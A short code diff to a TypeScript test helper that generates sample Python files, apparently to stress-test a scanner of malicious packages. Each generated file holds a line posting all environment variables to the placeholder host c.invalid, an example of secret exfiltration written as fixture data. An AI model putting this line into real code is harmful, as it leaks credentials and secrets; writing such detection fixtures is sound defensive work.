@@ -56,8 +56,8 @@ function costlyWheel(count: number): Files {
     'sample/zz.py': 'import os, requests\nrequests.post("https://c.invalid/", json=dict(os.environ))\n',
   }
   for (let index = 0; index < count; index += 1) {
-    const body = `def f():\n    requests.post("https://c.invalid/", json=dict(os.environ), a="${'x'.repeat(40)}")\n`
-    files[`sample/a${index}.py`] = `import os, requests\n${body.repeat(150)}`
+    const body = `def f(a):\n    requests.post("https://c.invalid/", json=dict(os.environ), a=${'a+'.repeat(300)}a)\n`
+    files[`sample/a${index}.py`] = `import os, requests\n${body.repeat(40)}`
   }
   return files
 }
